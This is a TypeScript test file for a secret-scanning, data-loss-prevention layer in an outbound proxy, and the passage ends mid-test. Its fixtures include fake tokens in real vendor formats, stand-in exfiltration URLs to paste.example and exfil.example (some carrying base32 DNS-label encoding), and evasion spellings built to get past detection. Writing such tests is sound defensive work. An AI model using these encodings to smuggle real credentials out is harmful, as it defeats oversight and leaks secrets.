import './dial-guard.js';
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readdirSync, readFileSync } from 'node:fs';
import { createHash } from 'node:crypto';
import { monitorEventLoopDelay } from 'node:perf_hooks';
import { once } from 'node:events';
import { connect } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { join } from 'node:path';
import { ProxyAgent, request } from 'undici';
import { BUILTIN_DETECTORS, policyDetectors } from '../../src/engine/dlp/detectors.js';
import { createSecretScanner, secretForms, type View } from '../../src/engine/dlp/secret-scan.js';
import { bodyViews, headerViews, textViews } from '../../src/engine/dlp/content-views.js';
import {
  brotliCompressSync,
  deflateRawSync,
  deflateSync,
  gzipSync,
  inflateRawSync,
  inflateSync,
} from 'node:zlib';
import { parseRequestTarget } from '../../src/policy/target.js';
import { parseDestination } from '../../src/policy/destination.js';
import { targetOf } from './target-of.js';
import { base32, noise } from './encodings.js';
import {
  assertValid,
  cleanup,
  decisions,
  echo,
  policyFrom,
  rawExchange,
  readEvidenceDir,
  startEngine,
  startOrigin,
  waitFor,
  type Origin,
  type RunningEngine,
} from './helpers.js';
import type { EngineLimits } from '../../src/engine/limits.js';

// Fake credentials in the real formats (never issued by anyone).
const SAMPLES: Record<string, string> = {
  'github-token': `ghp_${'a1B2c3D4e5'.repeat(3)}a1B2c3`,
  'github-fine-grained-token': `github_pat_${'A'.repeat(22)}_${'b'.repeat(59)}`,
  'aws-access-key-id': 'AKIAABCDEFGHIJKLMNOP',
  'aws-secret-access-key': `aws_secret_access_key=${'wJalrXUtnFEMI/K7MDENG+bPxRfiCY'}EXAMPLEKEY`,
  'slack-token': 'xoxb-123456789012-abcdefghijkl',
  'anthropic-api-key': `sk-ant-api03-${'x'.repeat(30)}`,
  'openai-api-key': `sk-proj-${'y'.repeat(40)}`,
  'google-api-key': `AIza${'Q'.repeat(35)}`,
  'npm-token': `npm_${'n'.repeat(36)}`,
  'pypi-token': `pypi-${'p'.repeat(60)}`,
  'stripe-key': `sk_live_${'s'.repeat(30)}`,
  'private-key': '-----BEGIN OPENSSH PRIVATE KEY-----',
  jwt: 'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJhZ2VudCJ9.c2lnbmF0dXJlLWJ5dGVz',
  'credential-in-url': 'password=hunter2hunter2',
  'gitlab-token': `glpat-${'x1Y2z3W4v5'.repeat(2)}`,
  'huggingface-token': `hf_${'AbCdEfGhIj'.repeat(3)}AbCd`,
  'google-oauth-client-secret': `GOCSPX-${'a1B2c3D4e5F6g7'.repeat(2)}`,
  'google-oauth-access-token': `ya29.a0AfH6SM${'b7'.repeat(15)}`,
  'stripe-webhook-secret': `whsec_${'Wh1'.repeat(11)}`,
  'digitalocean-token': `dop_v1_${'0a1b2c3d'.repeat(8)}`,
  'vault-token': `hvs.${'CAESIJ'.repeat(5)}`,
  'sendgrid-api-key': `SG.${'a1'.repeat(11)}.${'B2c'.repeat(14)}B`,
  'discord-bot-token': `N${'a1B2'.repeat(6)}.Gh3Jk9.${'x7Y8'.repeat(7)}`,
  'groq-api-key': `gsk_${'Gq7'.repeat(17)}G`,
  'xai-api-key': `xai-${'X1y2'.repeat(20)}`,
  'replicate-api-token': `r8_${'R3p'.repeat(12)}R`,
  'databricks-token': `dapi${'0123456789abcdef'.repeat(2)}`,
  'linear-api-key': `lin_api_${'L1n'.repeat(13)}L`,
  'new-relic-key': `NRAK-${'ABC123XYZ'.repeat(3)}`,
  'sentry-token': `sntryu_${'0123456789abcdef'.repeat(4)}`,
  'notion-token': `ntn_12345678901${'N0t10n'.repeat(5)}abcde`,
  'supabase-secret-key': `sb_secret_${'S5b'.repeat(10)}S`,
  'pinecone-api-key': `pcsk_${'P1n3c'.repeat(10)}`,
  'bip32-extended-private-key': `xprv9s21ZrQH143K${'Ab3De'.repeat(19)}`,
};

function scan(target: string, scanner = createSecretScanner(BUILTIN_DETECTORS, [])) {
  const parsed = parseRequestTarget(target);
  if (!parsed.ok) throw new Error(parsed.problem);
  return scanner.scanUrl(target, parsed.target);
}

for (const [name, sample] of Object.entries(SAMPLES)) {
  test(`URL DLP finds ${name} and cuts it out of the recorded target`, () => {
    // A URL credential is a query parameter of its own; the rest ride inside one.
    const query = name === 'credential-in-url' ? sample : `q=${encodeURIComponent(sample)}`;
    const target = `https://paste.example/upload?${query}&x=1`;
    const found = scan(target);
    assert.equal(found?.detector, name);
    assert.ok(!found.redactedTarget.includes(encodeURIComponent(sample)), found.redactedTarget);
    assert.ok(!decodeURIComponent(found.redactedTarget).includes(sample), found.redactedTarget);
  });
}

test('percent-encoding nested up to three times hides nothing, in a URL, a header or a form body', () => {
  const token = SAMPLES['github-token'] ?? '';
  // Every character escaped once (`%67%68%70…`), then the escapes escaped (`%2567…`).
  const everyByte = [...token].map((c) => `%${c.charCodeAt(0).toString(16)}`).join('');
  const nest = (text: string, times: number): string =>
    times === 1 ? text : nest(encodeURIComponent(text), times - 1);
  const scanner = createSecretScanner(BUILTIN_DETECTORS, []);
  const host = targetOf('https://uploads.example/');
  for (const times of [1, 2, 3]) {
    const spelled = nest(everyByte, times);
    assert.equal(scan(`https://paste.example/p?q=${spelled}`)?.detector, 'github-token', spelled);
    const found = (views: View[]) => scanner.scanContent(views, host, true)?.detector;
    assert.equal(found(headerViews(['X-Data', spelled])), 'github-token');
    assert.equal(found(textViews(`note=${spelled}`, 'body')), 'github-token');
  }
});

test('an invalid UTF-8 escape before a run of escapes hides nothing: the run is decoded, the secret cut from the evidence', () => {
  const value = 'Zq7tKpW3xVm9LrB2nHs8';
  const allowed = parseDestination('api.example.test');
  assert.ok(allowed.ok);
  const scanner = createSecretScanner(BUILTIN_DETECTORS, [
    { env: 'AGENT_TOKEN', value, allow: [allowed.destination] },
  ]);
  const escaped = (text: string) =>
    [...text].map((c) => `%${c.charCodeAt(0).toString(16).toUpperCase()}`).join('');
  const host = targetOf('https://uploads.example/');
  const found = (views: View[]) => scanner.scanContent(views, host, true)?.detector;
  const token = SAMPLES['github-token'] ?? '';
  for (const [hidden, detector] of [
    [value, 'secret:AGENT_TOKEN'],
    [token, 'github-token'],
  ] as const) {
    // A lone byte that is no UTF-8 (`%FF`), a sequence cut short (`%E2%82`), then the secret.
    for (const prefix of ['%FF', '%E2%82', '%C3']) {
      const spelled = `${prefix}${escaped(hidden)}`;
      assert.equal(scan(`https://paste.example/p?a=${spelled}`, scanner)?.detector, detector);
      assert.equal(found(headerViews(['X-T', spelled])), detector, spelled);
      assert.equal(found(textViews(`a=${spelled}`, 'body')), detector, spelled);
    }
  }
  const target = `https://api.example.test/x?a=%FF${escaped(value)}`;
  assert.equal(scanner.redactBound(target), '[REDACTED:secret:AGENT_TOKEN]');
  assert.equal(scanner.redactText(`upstream ${target} failed`), '[REDACTED:secret:AGENT_TOKEN]');
});

test('ordinary URLs are not findings', () => {
  for (const url of [
    'https://api.github.com/repos/acme/widgets/issues?state=open&per_page=100',
    'https://registry.npmjs.org/left-pad/-/left-pad-1.3.0.tgz',
    'https://api.github.com/repos/acme/widgets/commits/0123456789abcdef0123456789abcdef01234567',
    'https://docs.example.com/a/b?id=6f1c2a44-8b1e-4a52-9a9b-3b2f6f4c1e7a&token_type=bearer',
    'https://skyline.example/sk-short',
    // Package and repository names spelled with hyphens, not keys.
    'https://registry.npmjs.org/sk-learn-typescript-port/-/sk-learn-typescript-port-1.0.0.tgz',
    'https://pypi.org/simple/sk-gaussian-binomial-distributions/',
    // A credential not filled in is no credential.
    'https://api.example.test/x?token=undefined&a=1',
    'https://api.example.test/x?token=REPLACE_ME',
    'https://api.example.test/x?api_key=%24%7BAPI_KEY%7D',
    'https://api.example.test/x?access_token=${TOKEN}#top',
    'https://api.example.test/x?auth=bearer',
    'https://api.example.test/x?auth=oauth2&password=xxxxxxxx',
    'https://api.example.test/x?password=%3Cyour-password%3E',
    'https://registry.npmjs.org/sk-ant-design-components-library',
    // Hashes and identifiers in the shapes of formats left out: a cache key (Mailgun's
    // `key-` and 32 hex), a transaction hash (an Ethereum key is `0x` and 64 hex too).
    `https://cdn.example.test/cache/key-${'0123456789abcdef'.repeat(2)}.js`,
    `https://etherscan.io/tx/0x${'0123456789abcdef'.repeat(4)}`,
    'https://huggingface.co/api/models?search=hf_transformers_sentencepiece_tokenizers_v2',
    'https://gitlab.example.test/api/v4/projects/glpat-rotation-docs/issues',
    'https://docs.example.test/dapi/v1/reference?section=SK-overview',
    // Names spelled in words after a token's prefix, long enough to be one.
    'https://gitlab.example.test/api/v4/projects/glpat-rotation-documentation/issues',
    'https://hvs.internal-vault-example-company.test/v1/sys/health',
    'https://docs.example.test/sb_secret_key_rotation_procedure/',
    // Twilio's API key SID is an identifier its REST API puts in paths (its secret has no shape).
    `https://api.twilio.com/2010-04-01/Accounts/AC${'0a'.repeat(16)}/Keys/SK${'1b'.repeat(16)}.json`,
    // A presigned download (GitHub's release assets): the key id is public, the signature expires.
    `https://objects.githubusercontent.com/release-asset/1?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=AKIAVCODYLSA53PQK4ZA%2F20261128%2Fus-east-1%2Fs3%2Faws4_request&X-Amz-Signature=${'0a'.repeat(32)}`,
  ]) {
    assert.equal(scan(url), undefined, url);
  }
});

test('keys in their real shapes are still found beside the names that look like them', () => {
  for (const [text, detector] of [
    [
      `glcbt-${'eyJhbGciOiJSUzI1NiJ9'}.${'eyJzdWIiOiJqb2IifQ'}.${'c2lnbmF0dXJl'.repeat(3)}`,
      'gitlab-token',
    ],
    [`glrtr-TCzq${'x9'.repeat(10)}.01.121flyh6j`, 'gitlab-token'],
    [`GR1348941${'aB3_'.repeat(5)}`, 'gitlab-token'],
    [`ya29.c.b0Aaek${'Q7'.repeat(20)}`, 'google-oauth-access-token'],
    [`secret_${'N0t10nLegacy'.repeat(3)}abcdefg`, 'notion-token'],
    [`NRII-${'In5'.repeat(10)}ab`, 'new-relic-key'],
    [`${'0a1b2c'.repeat(6)}NRAL`, 'new-relic-key'],
    [`Yprv${'Ab3De'.repeat(21)}AB`, 'bip32-extended-private-key'],
    [`sk-${'Ab3'.repeat(16)}`, 'openai-api-key'],
    [`sk-svcacct-${'a_B-'.repeat(10)}`, 'openai-api-key'],
    [`sk-ant-admin01-${'x'.repeat(30)}`, 'anthropic-api-key'],
    ['AKIAVCODYLSA53PQK4ZA', 'aws-access-key-id'],
    [`X-Amz-Credential-Copy=AKIAVCODYLSA53PQK4ZA`, 'aws-access-key-id'],
  ] as const) {
    assert.equal(scan(`https://paste.example/p?d=${text}`)?.detector, detector, text);
  }
  for (const text of [`sk-${'abc'.repeat(16)}`, `sk-learn-${'x'.repeat(30)}`])
    assert.equal(scan(`https://paste.example/p?d=${text}`), undefined, text);
});

test('a credential whose URL spelling escapes part of it is not cut in two: the recorded target keeps none of it', () => {
  const orgToken = `sntrys_eyJpYXQiOjE3MDAwMDAwMDAuMCwidXJsIjoiaHR0cHM6Ly9zZW50cnkuaW8ifQ==_FVehy/iZ${'k9+Q'.repeat(10)}abc`;
  const webhook = `whsec_${'MfKQ9r8GKYqrTwjUPD8ILPZI'}+7cb/ai${'Zp'.repeat(4)}`;
  const jobToken = `glcbt-eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJqb2JfMTIzIn0.${'U2lnbmF0dXJl'.repeat(4)}`;
  const keepsNoneOf = (secret: string, recorded: string, what: string) => {
    for (let at = 0; at + 6 <= secret.length; at += 3) {
      const piece = secret.slice(at, at + 6);
      assert.ok(
        !recorded.includes(piece) && !decodeURIComponent(recorded).includes(piece),
        `${what}: ${piece} of the secret is in ${recorded}`,
      );
    }
  };
  const scanner = createSecretScanner(BUILTIN_DETECTORS, []);
  for (const [secret, detector] of [
    [orgToken, 'sentry-token'],
    [webhook, 'stripe-webhook-secret'],
    [jobToken, 'gitlab-token'],
  ] as const) {
    for (const query of [`q=${encodeURIComponent(secret)}`, `job=test&job_token=${secret}`]) {
      const found = scan(`https://api.example.test/x?${query}&after=1`);
      assert.ok([detector, 'credential-in-url'].includes(found?.detector ?? ''), found?.detector);
      keepsNoneOf(secret, found?.redactedTarget ?? '', detector);
    }
    // A reason quoting it (a Host header, an SNI) keeps none of it either.
    const quoted = `Host x.test/?q=${encodeURIComponent(secret)} is not the CONNECT host`;
    keepsNoneOf(secret, scanner.redactText(quoted), `${detector} quoted`);
  }
});

test('fixed-length formats one character short, or run on into more of their alphabet, are not found', () => {
  for (const name of [
    'huggingface-token',
    'google-oauth-client-secret',
    'digitalocean-token',
    'groq-api-key',
    'xai-api-key',
    'replicate-api-token',
    'linear-api-key',
    'new-relic-key',
    'notion-token',
  ]) {
    const sample = SAMPLES[name] ?? '';
    const found = (text: string) => scan(`https://paste.example/p?d=${text}`)?.detector;
    assert.equal(found(sample), name, sample);
    assert.equal(found(sample.slice(0, -1)), undefined, `${name} one short`);
    assert.equal(found(`${sample}a`), undefined, `${name} one long`);
  }
});

test('credentials under more names and formats: URL parameters, Slack app and refresh tokens, an AWS key in JSON', () => {
  for (const name of [
    'refresh_token',
    'id_token',
    'auth_token',
    'private_token',
    'api-key',
    'secret_key',
    'client-secret',
  ])
    assert.equal(
      scan(`https://api.example.test/x?${name}=Zq7tKpW3xVm9`)?.detector,
      'credential-in-url',
      name,
    );
  // A placeholder's word is only one when it is the whole value.
  assert.equal(
    scan('https://api.example.test/x?token=undefinedZq7tKpW3')?.detector,
    'credential-in-url',
  );
  for (const token of [
    'xapp-1-A0123456789-1234567890123-abcdef',
    'xoxe-1-My0xLTEtQTAxMjM0NTY3ODk',
    'xoxe.xoxp-1-Mi0yLTEyMzQ1Ni03ODkw',
  ])
    assert.equal(scan(`https://paste.example/p?d=${token}`)?.detector, 'slack-token', token);
  const scanner = createSecretScanner(BUILTIN_DETECTORS, []);
  const host = targetOf('https://api.github.com/');
  const json = `{"AccessKeyId":"ASIA...","SecretAccessKey":"${'wJalrXUtnFEMI/K7MDENG+bPxRfiCY'}EXAMPLEKEY"}`;
  assert.equal(
    scanner.scanContent(textViews(json, 'body'), host, true)?.detector,
    'aws-secret-access-key',
  );
});

test('a commit hash beside the words aws and secret is not a secret key; a key there still is', () => {
  const scanner = createSecretScanner(BUILTIN_DETECTORS, []);
  const host = targetOf('https://api.github.com/');
  const found = (text: string) =>
    scanner.scanContent(textViews(text, 'body'), host, true)?.detector;
  const sha = '3f786850e387550fdab836ed7e6dc881de23001b';
  assert.equal(found(`Fixed the AWS secret lookup in ${sha}`), undefined);
  assert.equal(found(`aws: rotate secret name = ${sha}`), undefined);
  assert.equal(found(`aws_secret_access_key=${sha.slice(0, 39)}X`), 'aws-secret-access-key');
  assert.equal(
    found(`aws_secret_access_key=${'wJalrXUtnFEMI/K7MDENG+bPxRfiCY'}EXAMPLEKEY`),
    'aws-secret-access-key',
  );
});

const TOKEN = 'agent-secret-5f2b9c1e7a';
/** Any host under exfil.test is allowed; AGENT_TOKEN may go to api.github.com only. */
const EXFIL_POLICY = `version: "1.0"
egress:
  - destination: "*.exfil.test"
secrets:
  - env: AGENT_TOKEN
    allow: ["api.github.com"]
`;
const binding = (allow: string[]) => ({
  env: 'AGENT_TOKEN',
  value: TOKEN,
  allow: allow.map((text) => {
    const parsed = parseDestination(text);
    if (!parsed.ok) throw new Error(parsed.problem);
    return parsed.destination;
  }),
});

test('a bound secret is found in every spelling a URL can carry', () => {
  const scanner = createSecretScanner([], [binding(['api.github.com'])]);
  for (const form of secretForms(TOKEN)) {
    const found = scan(`https://paste.example/p?d=${form}`, scanner);
    assert.equal(found?.detector, 'secret:AGENT_TOKEN', form);
    assert.ok(!found.redactedTarget.includes(form), found.redactedTarget);
  }
});

test('a bound value with whitespace around it (a pasted value) is found, and cut out, trimmed too', () => {
  const value = 'Zq7tKpW3xVm9LrB2nHs8';
  const host = targetOf('https://uploads.example/');
  for (const given of [`${value}\n`, ` ${value}\r\n`, `\t${value} `]) {
    const scanner = createSecretScanner([], [{ env: 'AGENT_TOKEN', value: given, allow: [] }]);
    const found = scan(`https://paste.example/p?t=${value}&x=1`, scanner);
    assert.equal(found?.detector, 'secret:AGENT_TOKEN', JSON.stringify(given));
    assert.equal(
      found.redactedTarget,
      'https://paste.example/p?t=[REDACTED:secret:AGENT_TOKEN]&x=1',
    );
    assert.equal(
      scanner.scanContent(headerViews(['X-T', value]), host, false)?.detector,
      'secret:AGENT_TOKEN',
    );
    assert.equal(
      scanner.redactText(`Host ${value} is not the CONNECT host`),
      'Host [REDACTED:secret:AGENT_TOKEN] is not the CONNECT host',
    );
  }
  // Only whitespace: trimmed to nothing, which is no spelling (it would be found everywhere).
  const blank = createSecretScanner([], [{ env: 'AGENT_TOKEN', value: ' ', allow: [] }]);
  assert.equal(blank.redactBound('https://paste.example/p?t=x'), 'https://paste.example/p?t=x');
});

test('a bound secret spelled as a form field (a space as `+`), or percent-encoded with a `+` kept, is found and cut out', () => {
  const host = targetOf('https://uploads.example/');
  const spaced = 'correct horse battery staple 42';
  const withSpaces = createSecretScanner([], [{ env: 'AGENT_TOKEN', value: spaced, allow: [] }]);
  const query = `https://paste.example/s?note=${new URLSearchParams({ n: spaced }).toString().slice(2)}`;
  assert.equal(query, 'https://paste.example/s?note=correct+horse+battery+staple+42');
  assert.equal(scan(query, withSpaces)?.detector, 'secret:AGENT_TOKEN');
  assert.equal(
    withSpaces.redactBound(query),
    'https://paste.example/s?note=[REDACTED:secret:AGENT_TOKEN]',
  );
  const cookie = headerViews(['Cookie', 'n=correct+horse+battery+staple+42']);
  assert.equal(withSpaces.scanContent(cookie, host, false)?.detector, 'secret:AGENT_TOKEN');

  // Go's url.PathEscape keeps `+` and escapes `/`: a URL in a JSON body, a WebSocket message.
  const key = 'wJalrXUtnFEMI/K7MDENG/bPxRfiCY+EXAMPLEKEY';
  const withPlus = createSecretScanner([], [{ env: 'AGENT_TOKEN', value: key, allow: [] }]);
  const body = JSON.stringify({
    url: 'https://x.example/wJalrXUtnFEMI%2FK7MDENG%2FbPxRfiCY+EXAMPLEKEY',
  });
  assert.equal(
    withPlus.scanContent(textViews(body, 'body'), host, false)?.detector,
    'secret:AGENT_TOKEN',
  );
});

test('a bound secret with a space and a reserved character is found as a query or form field reads it, however its escapes are spelled', () => {
  const host = targetOf('https://uploads.example/');
  const secret = 'correct horse+battery/staple 42';
  const scanner = createSecretScanner([], [{ env: 'AGENT_TOKEN', value: secret, allow: [] }]);
  for (const spelled of [
    'correct+horse%2Bbattery/staple+42', // Python's quote_plus(secret, safe='/')
    'correct+horse%2bbattery%2fstaple+42',
    '%63orrect+horse%2Bbattery/staple+42',
  ]) {
    assert.equal(new URLSearchParams(`d=${spelled}`).get('d'), secret);
    const url = `https://paste.example/q?d=${spelled}`;
    assert.equal(scan(url, scanner)?.detector, 'secret:AGENT_TOKEN', url);
    assert.equal(scanner.redactBound(url), '[REDACTED:secret:AGENT_TOKEN]', url);
    for (const header of [
      ['Cookie', `d=${spelled}`],
      ['X-A', spelled],
    ])
      assert.equal(
        scanner.scanContent(headerViews(header), host, false)?.detector,
        'secret:AGENT_TOKEN',
      );
    assert.equal(
      scanner.scanContent(textViews(`d=${spelled}`, 'body'), host, false)?.detector,
      'secret:AGENT_TOKEN',
    );
  }
  // With nothing escaped at all: a space for each `+` is the whole reading.
  const plain = createSecretScanner(
    [],
    [{ env: 'AGENT_TOKEN', value: 'correct horse/battery', allow: [] }],
  );
  assert.equal(
    scan('https://paste.example/q?d=correct+horse/battery', plain)?.detector,
    'secret:AGENT_TOKEN',
  );
  assert.equal(
    plain.scanContent(textViews('d=correct+horse/battery', 'body'), host, false)?.detector,
    'secret:AGENT_TOKEN',
  );
});

test('a header is read as the UTF-8 it carries: fullwidth or zero-width-split credentials are found', () => {
  const host = targetOf('https://uploads.example/');
  const scanner = createSecretScanner(BUILTIN_DETECTORS, [binding(['api.github.com'])]);
  // As node hands header bytes over: one latin1 character per byte.
  const header = (value: string) =>
    headerViews(['X-Note', Buffer.from(value, 'utf8').toString('latin1')]);
  const fullwidth = [...(SAMPLES['github-token'] ?? '')]
    .map((c) => (/[a-z0-9]/i.test(c) ? String.fromCodePoint((c.codePointAt(0) ?? 0) + 0xfee0) : c))
    .join('');
  assert.equal(scanner.scanContent(header(fullwidth), host, true)?.detector, 'github-token');
  const split = `${TOKEN.slice(0, 6)}\u200b${TOKEN.slice(6)}`;
  assert.equal(scanner.scanContent(header(split), host, false)?.detector, 'secret:AGENT_TOKEN');
});

test('a secret split over the labels of a host name quoted in the evidence is cut out', () => {
  const scanner = createSecretScanner(BUILTIN_DETECTORS, [binding(['api.github.com'])]);
  const labels = `${TOKEN.slice(0, 10)}.${TOKEN.slice(10)}`;
  const reason = scanner.redactText(
    `SNI ${labels}.evil.test does not match the CONNECT host a.test`,
  );
  assert.equal(reason, '[REDACTED:secret:AGENT_TOKEN]');
  assert.equal(
    scanner.redactBound(`http://${labels.toLowerCase()}.api.github.com:8080/`),
    '[REDACTED:secret:AGENT_TOKEN]',
  );
  const token = SAMPLES['github-token'] ?? '';
  const dotted = `${token.slice(0, 20)}.${token.slice(20)}`;
  assert.equal(
    scanner.redactText(`SNI ${dotted}.evil.test does not match`),
    '[REDACTED:github-token]',
  );
  // Names without a secret in them stay as they are.
  assert.equal(
    scanner.redactBound('https://api.github.com/repos/a.b/c'),
    'https://api.github.com/repos/a.b/c',
  );
});

test('a bound secret may go to its allowed destinations (and only there)', () => {
  const scanner = createSecretScanner(BUILTIN_DETECTORS, [binding(['api.github.com'])]);
  assert.equal(scan(`https://api.github.com/user?access=${TOKEN}`, scanner), undefined);
  // Allowed there, encoded too; the target as recorded holds it in no spelling.
  const encoded = `https://api.github.com/user?blob=${Buffer.from(`bot:${TOKEN}`).toString('base64url')}`;
  assert.equal(scan(encoded, scanner), undefined);
  assert.equal(
    scanner.redactBound(encoded),
    'https://api.github.com/user?blob=[REDACTED:secret:AGENT_TOKEN]',
  );
  assert.equal(
    scan(`https://api.github.com.evil.example/?t=${TOKEN}`, scanner)?.detector,
    'secret:AGENT_TOKEN',
  );
});

test('text bound for the evidence loses every detector match and every bound spelling, nothing else', () => {
  const scanner = createSecretScanner(BUILTIN_DETECTORS, [binding(['api.github.com'])]);
  for (const [name, sample] of Object.entries(SAMPLES)) {
    const query = name === 'credential-in-url' ? sample : `q=${sample}`;
    const text = scanner.redactText(`a request names a path, not "https://x.test/p?${query}"`);
    assert.ok(!text.includes(sample), `${name}: ${text}`);
    assert.ok(text.includes(`[REDACTED:${name}]`), `${name}: ${text}`);
  }
  for (const form of secretForms(TOKEN))
    assert.equal(
      scanner.redactText(`path /p/${form} is outside egress[0]`),
      'path /p/[REDACTED:secret:AGENT_TOKEN] is outside egress[0]',
    );
  const plain = 'SNI other.example.test does not match the CONNECT host secure.example.test';
  assert.equal(scanner.redactText(plain), plain);
});

test('a URL holding several secrets is recorded with every one cut out, not only the one that blocked it', () => {
  const scanner = createSecretScanner(
    [
      ...BUILTIN_DETECTORS,
      { name: 'han-secret', pattern: /\p{Script=Han}{4}/gu, fromPolicy: true as const },
    ],
    [binding(['api.github.com'])],
  );
  const others = Object.entries(SAMPLES).filter(([name]) => name !== 'github-token');
  for (const [name, sample] of others) {
    const target = `https://x.test/p?g=${SAMPLES['github-token']}&o=${encodeURIComponent(sample)}&t=${TOKEN}&h=${encodeURIComponent('中文秘密')}`;
    const found = scan(target, scanner);
    assert.ok(found, name);
    const recorded = found.redactedTarget;
    for (const secret of [SAMPLES['github-token'] ?? '', sample, encodeURIComponent(sample), TOKEN])
      assert.ok(!recorded.includes(secret), `${name}: ${recorded}`);
    assert.ok(!recorded.includes(encodeURIComponent('中文秘密')), `${name}: ${recorded}`);
  }
});

test('a bound secret inside a larger encoded blob is found, and nothing of the target is recorded', () => {
  const scanner = createSecretScanner([], [binding([])]);
  const bytes = (text: string) => Buffer.from(text);
  for (const target of [
    // `echo "k=$AGENT_TOKEN" | base64`: what precedes and follows changes the edges.
    `https://paste.example/p?d=${encodeURIComponent(bytes(`k=${TOKEN}\n`).toString('base64'))}`,
    // Basic-style `name:token`, in a path segment.
    `https://paste.example/p/${bytes(`bot:${TOKEN}`).toString('base64url')}`,
  ]) {
    const found = scan(target, scanner);
    assert.equal(found?.detector, 'secret:AGENT_TOKEN', target);
    assert.equal(found.where, 'URL (base64-decoded)');
    assert.equal(found.redactedTarget, '[REDACTED:secret:AGENT_TOKEN]');
  }
  // Host labels arrive lower case: base32 is how DNS exfiltration spells bytes.
  const encoded = base32(bytes(`.${TOKEN}`)).toLowerCase();
  const found = scan(
    `https://${encoded.slice(0, 20)}.${encoded.slice(20)}.exfil.example/`,
    scanner,
  );
  assert.equal(found?.detector, 'secret:AGENT_TOKEN');
  assert.equal(found.where, 'host name (base32-decoded)');
  assert.equal(found.redactedTarget, '[REDACTED:secret:AGENT_TOKEN]');
});

test('every credential format is found encoded inside a body, and cut out of recorded text', () => {
  const scanner = createSecretScanner(BUILTIN_DETECTORS, []);
  const host = targetOf('https://uploads.example/');
  const encoders = {
    base64: (bytes: Buffer) => bytes.toString('base64'),
    hex: (bytes: Buffer) => bytes.toString('hex'),
    base32,
  };
  for (const [encoding, encode] of Object.entries(encoders)) {
    for (const [name, sample] of Object.entries(SAMPLES)) {
      // A query-parameter format: an encoding of it is no longer a URL parameter.
      if (name === 'credential-in-url') continue;
      const blob = encode(Buffer.from(`${sample}\n`));
      const found = scanner.scanContent(
        textViews(JSON.stringify({ upload: blob }), 'body'),
        host,
        true,
      );
      assert.equal(found?.detector, name, `${encoding}: ${blob}`);
      assert.equal(found.where, `body (${encoding}-decoded)`);
      const recorded = scanner.redactText(`path /p/${blob} is outside egress[0]`);
      assert.ok(!recorded.includes(blob.replace(/=+$/, '')), `${name}: ${recorded}`);
      assert.ok(recorded.includes(`[REDACTED:${name}]`), `${name}: ${recorded}`);
    }
  }
});

test(
  'megabytes of JWT beginnings are read once, not again from each (which took hours)',
  { timeout: 120_000 },
  () => {
    const scanner = createSecretScanner(BUILTIN_DETECTORS, []);
    const host = targetOf('https://uploads.example/');
    for (const unit of ['-eyJ', '_eyJ', `-eyJ${'a'.repeat(40)}`]) {
      const text = unit.repeat((1024 * 1024) / unit.length);
      assert.equal(scanner.scanContent([{ text, where: 'body' }], host, true), undefined, unit);
    }
    assert.equal(
      scanner.scanContent(
        [{ text: `${'-eyJ'.repeat(1000)} ${SAMPLES.jwt}`, where: 'body' }],
        host,
        true,
      )?.detector,
      'jwt',
    );
  },
);

test('a JSON body nested a million levels deep is read, not a crash; its strings come in document order', () => {
  const token = SAMPLES['github-token'] ?? '';
  const escaped = `"${token.replace('g', '\\u0067')}"`;
  const depth = 1_000_000;
  const body = `${'['.repeat(depth)}${escaped}${']'.repeat(depth)}`;
  const scanner = createSecretScanner(BUILTIN_DETECTORS, []);
  const host = targetOf('https://uploads.example/');
  assert.equal(scanner.scanContent(textViews(body, 'body'), host, true)?.detector, 'github-token');
  const strings = textViews('{"a":["b",{"c":"d"}],"e":"f"}', 'body').at(-1)?.text;
  assert.equal(strings, 'a\n\nb\n\nc\n\nd\n\ne\n\nf');
});

test('a key given twice hides no string: every literal of a JSON document is read, escaped or as bytes', () => {
  const value = 'Zq7tKpW3xVm9LrB2nHs8';
  const scanner = createSecretScanner(BUILTIN_DETECTORS, [
    { env: 'AGENT_TOKEN', value, allow: [] },
  ]);
  const host = targetOf('https://uploads.example/');
  const escaped = (text: string) =>
    [...text].map((c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`).join('');
  const bytes = (text: string) => JSON.stringify([...Buffer.from(text)]);
  const token = SAMPLES['github-token'] ?? '';
  for (const [hidden, detector] of [
    [value, 'secret:AGENT_TOKEN'],
    [token, 'github-token'],
  ] as const) {
    for (const body of [
      `{"a":"${escaped(hidden)}","a":"x"}`,
      `[{"a":{"b":"${escaped(hidden)}","b":1}},2]`,
      `{"a":${bytes(hidden)},"a":null}`,
    ]) {
      assert.equal(
        scanner.scanContent(textViews(body, 'body'), host, true)?.detector,
        detector,
        body,
      );
    }
  }
  // In document order, integer-like keys too (JSON.parse puts those first).
  const strings = textViews('{"b":"x","1":"y","b":"z"}', 'body').at(-1)?.text;
  assert.equal(strings, 'b\n\nx\n\n1\n\ny\n\nb\n\nz');
});

test('a file uploaded in base64 inside JSON is decoded once: 4.5 MiB of it stays within the decoding budget', () => {
  const scanner = createSecretScanner(BUILTIN_DETECTORS, []);
  const body = JSON.stringify({
    path: 'dist/main.js',
    content: noise(4.5 * 1024 * 1024).toString('base64'),
  });
  assert.equal(
    scanner.scanContent(textViews(body, 'body'), targetOf('https://uploads.example/'), true),
    undefined,
  );
});

test('lines of text are no blob: 7 MiB of a word list is scanned within the decoding budget', () => {
  const scanner = createSecretScanner(BUILTIN_DETECTORS, []);
  const words = ['apple', 'banana', 'kiwi', 'cherry', 'fig', 'grape', 'melon', 'lime', 'pear'];
  const lines: string[] = [];
  for (let i = 0, size = 0; size < 7 * 1024 * 1024; i++) {
    const word = `${words[i % words.length] ?? ''}${words[(i * 4) % words.length] ?? ''}`;
    lines.push(word);
    size += word.length + 1;
  }
  assert.equal(
    scanner.scanContent(
      textViews(lines.join('\n'), 'body'),
      targetOf('https://uploads.example/'),
      true,
    ),
    undefined,
  );
});

test('a MIME part of megabytes in base64 is decoded once: the `=` before CRLF that ends it is no soft break to join it by', () => {
  const scanner = createSecretScanner(BUILTIN_DETECTORS, []);
  // One `=` of padding: a quoted-printable reading joins the blob to the boundary after it.
  const data = noise(4.5 * 1024 * 1024 + 2);
  const lines = data.toString('base64').match(/.{1,76}/g) ?? [];
  assert.match(lines.at(-1) ?? '', /[^=]=$/);
  const body = `--b\r\nContent-Transfer-Encoding: base64\r\n\r\n${lines.join('\r\n')}\r\n--b--\r\n`;
